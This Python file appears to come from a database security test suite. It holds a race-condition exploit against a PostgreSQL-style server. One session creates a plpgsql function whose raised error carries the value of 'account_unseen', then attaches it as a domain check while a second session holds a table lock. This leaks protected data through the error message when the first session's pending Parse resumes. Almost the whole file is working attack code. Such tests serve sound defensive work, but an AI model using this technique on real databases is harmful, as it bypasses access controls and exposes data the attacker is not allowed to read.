"""Sends a Parse with a constant; while it waits for a table the type gets a check that reads."""

import time

from attacks.frames import SYNC, ask, hear, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client, server.login() as other:
        ask(
            client,
            query(
                b"CREATE FUNCTION look(int) RETURNS bool LANGUAGE plpgsql AS"
                b" $$ BEGIN RAISE EXCEPTION '%', account_unseen($1); END $$"
            ),
        )
        ask(client, query(b"CREATE DOMAIN seen AS int"))
        ask(client, query(b"CREATE TYPE pair AS (a seen)"))
        ask(other, query(b"BEGIN"))
        ask(other, query(b"LOCK TABLE mallory_own"))
        ask(other, query(b"ALTER DOMAIN seen ADD CHECK (look(VALUE))"))
        client.send(parse(b"SELECT '(1)'::pair FROM mallory_own"), SYNC)
        time.sleep(1)
        ask(other, query(b"COMMIT"))
        return hear(client)
